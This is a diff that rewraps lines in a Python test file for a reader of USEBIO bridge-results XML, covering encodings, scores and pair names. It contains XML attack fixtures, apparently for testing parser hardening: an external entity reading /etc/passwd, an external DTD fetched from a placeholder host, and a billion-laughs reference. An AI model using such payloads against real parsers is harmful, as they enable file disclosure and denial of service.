@@ -47,7 +47,12 @@ def test_every_quirk_of_the_sample_file() -> None:
     assert adjusted.score == "A6040" and adjusted.adjusted == (60.0, 40.0)
     assert (adjusted.theirs_ns, adjusted.theirs_ew) == ("2.4", "1.6")
     # Section B: a line with a contract and tricks but no score; a passed-out board.
-    assert (doubled.section, doubled.contract, doubled.result, doubled.score) == ("B", "2HX", "7", "")
+    assert (doubled.section, doubled.contract, doubled.result, doubled.score) == (
+        "B",
+        "2HX",
+        "7",
+        "",
+    )
     assert (passed.contract, passed.score) == ("PASS", "0")
     # Pairs: iso-8859-1 names, national ids, direction written E-W, the file's results.
     renee, eve, section_b = event.pairs
@@ -69,8 +74,10 @@ def test_event_types(tmp_path: Path, kind: str, method: str) -> None:
 
 
 def test_iso_8859_1_without_a_declaration_and_utf8_with_one(tmp_path: Path) -> None:
-    names = "<PARTICIPANTS><PAIR><PAIR_NUMBER>1</PAIR_NUMBER><PLAYER><PLAYER_NAME>Zoë Ær" \
+    names = (
+        "<PARTICIPANTS><PAIR><PAIR_NUMBER>1</PAIR_NUMBER><PLAYER><PLAYER_NAME>Zoë Ær"
         "</PLAYER_NAME></PLAYER></PAIR></PARTICIPANTS>"
+    )
     body = names + board(line(1, 2, "<SCORE>420</SCORE>") + line(3, 4, "<SCORE>0</SCORE>"))
     latin = read_usebio(xml_file(tmp_path, body, head="", encoding="iso-8859-1"))
     assert latin.pairs[0].names == ("Zoë Ær",)
@@ -99,7 +106,8 @@ BILLION_LAUGHS = """<?xml version="1.0"?>
 """
 EXTERNAL_ENTITY = """<?xml version="1.0"?>
 <!DOCTYPE USEBIO [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
-<USEBIO><EVENT EVENT_TYPE="MP_PAIRS"><EVENT_DESCRIPTION>&secret;</EVENT_DESCRIPTION></EVENT></USEBIO>
+<USEBIO><EVENT EVENT_TYPE="MP_PAIRS"><EVENT_DESCRIPTION>&secret;</EVENT_DESCRIPTION>
+</EVENT></USEBIO>
 """
 EXTERNAL_DTD_ENTITY = """<?xml version="1.0"?>
 <!DOCTYPE USEBIO [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
@@ -151,8 +159,11 @@ def test_bad_files_name_the_file_and_the_element(
 
 
 def test_the_writer_declares_iso_8859_1_and_reads_back(tmp_path: Path) -> None:
-    event = EventFile("x", description="Zoë's night", hands={
-        ("A", 1): "N:AKQJ.T98.765.432 T98.765.432.AKQJ 765.432.AKQJ.T98 432.AKQJ.T98.765"})
+    event = EventFile(
+        "x",
+        description="Zoë's night",
+        hands={("A", 1): "N:AKQJ.T98.765.432 T98.765.432.AKQJ 765.432.AKQJ.T98 432.AKQJ.T98.765"},
+    )
     lines = [
         Line("A", 1, 1, 2, "4S", "N", "10", "HA", "420", "2", "0"),
         Line("A", 1, 3, 4, "", "", "", "", "A60/40", "1.2", "0.8"),
